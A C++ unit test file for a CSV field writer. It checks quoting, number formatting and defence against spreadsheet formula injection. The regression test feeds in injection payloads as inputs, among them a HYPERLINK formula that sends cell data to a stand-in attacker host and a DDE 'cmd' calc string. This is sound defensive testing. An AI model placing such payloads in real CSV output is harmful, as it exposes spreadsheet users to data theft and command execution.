#include "pipeline/writers/csv_field.h"

#include <catch2/catch.hpp>

#include <cstdint>
#include <string>
#include <vector>

#include "tests/pipeline/strict_csv.h"

namespace {

using returns::CsvCell;
using returns::CsvField;

struct Row {
  std::string text;
  std::string written;
};

}  // namespace

TEST_CASE("a text cell is always quoted, with its quotes doubled", "[writers][csv]") {
  const std::vector<Row> rows = {
      {"plain", R"("plain")"},
      {"", R"("")"},
      {"a, b", R"("a, b")"},
      {R"(say "hi")", R"("say ""hi""")"},
      {"two\r\nlines\n", "\"two\r\nlines\n\""},
      {"£125 – “curly”", "\"£125 – “curly”\""},
      {"42", R"("42")"},  // a number kept as text stays text
      {"'already quoted", R"("'already quoted")"},
      {"a = b + c - d @ e", R"("a = b + c - d @ e")"},  // only the first character counts
      {" =1+1", R"(" =1+1")"},                          // nor after a space (see the header)
  };
  for (const Row& row : rows) {
    INFO(row.text);
    CHECK(CsvField(row.text).bytes() == row.written);
  }
}

TEST_CASE("regression: a CSV cell starting with '=', '+', '-', '@', a tab or a carriage return is text to a spreadsheet",
          "[writers][csv][regression]") {
  const std::vector<Row> rows = {
      {"=1+1", R"("'=1+1")"},
      {R"(=HYPERLINK("http://evil.example/?"&A1,"click"))", R"~("'=HYPERLINK(""http://evil.example/?""&A1,""click"")")~"},
      {"+44 1234 567890", R"("'+44 1234 567890")"},
      {"-2+3+cmd|' /C calc'!A0", R"("'-2+3+cmd|' /C calc'!A0")"},
      {"- moderation planned", R"("'- moderation planned")"},
      {"@SUM(1+1)", R"~("'@SUM(1+1)")~"},
      {"\t=1+1", "\"'\t=1+1\""},
      {"\r=1+1", "\"'\r=1+1\""},
      {"=", R"("'=")"},
      {"\"=1+1", R"("""=1+1")"},  // begins with a quote, not a formula
  };
  for (const Row& row : rows) {
    INFO(row.text);
    CHECK(CsvField(row.text).bytes() == row.written);
    // Read back as a reader would: the text, with a ' first where a spreadsheet would run it.
    const returns::test::CsvRows back = returns::test::ParseCsv(CsvField(row.text).bytes() + "\r\n");
    REQUIRE(back.size() == 1);
    REQUIRE(back[0].size() == 1);
    CHECK_FALSE(returns::test::SpreadsheetFormula(back[0][0]));
    CHECK(back[0][0] == returns::test::AsSpreadsheetText(row.text));
  }
  CHECK(returns::StartsLikeFormula("=x"));
  CHECK(returns::StartsLikeFormula("\rx"));
  CHECK_FALSE(returns::StartsLikeFormula("x=y"));
  CHECK_FALSE(returns::StartsLikeFormula(""));
}

TEST_CASE("numbers the program counted are written bare", "[writers][csv]") {
  CHECK(CsvField(0).bytes() == "0");
  CHECK(CsvField(2).bytes() == "2");
  CHECK(CsvField(-7).bytes() == "-7");  // a negative number stays a number: not text, not a formula
  CHECK(CsvField(4294967295u).bytes() == "4294967295");
  CHECK(CsvField(static_cast<uint64_t>(18446744073709551615ull)).bytes() == "18446744073709551615");
  CHECK(CsvField(0.41860465, 4).bytes() == "0.4186");
  CHECK(CsvField(1.0, 4).bytes() == "1.0000");
  CHECK(CsvField(1e30, 2).bytes() == "1000000000000000019884624838656.00");  // longer than any fixed buffer
}

TEST_CASE("a row joins its cells with commas and ends with CRLF, an empty cell is nothing", "[writers][csv]") {
  CHECK(returns::CsvRow({CsvField("a"), CsvCell(), CsvField(3), CsvField("=b")}) == "\"a\",,3,\"'=b\"\r\n");
  CHECK(returns::CsvRow({}) == "\r\n");
  std::string out = "before\r\n";
  returns::AppendCsvRow({CsvField("x,y"), CsvField(1)}, out);
  CHECK(out == "before\r\n\"x,y\",1\r\n");
}

TEST_CASE("a header writes plain column names bare and any other name as a text cell", "[writers][csv]") {
  CHECK(returns::CsvHeader({"id", "question", "collaborative_share", "q2"}) == "id,question,collaborative_share,q2\r\n");
  CHECK(returns::CsvHeader({"id", "Lead School(s)", "a,b", "=x"}) == "id,\"Lead School(s)\",\"a,b\",\"'=x\"\r\n");
}
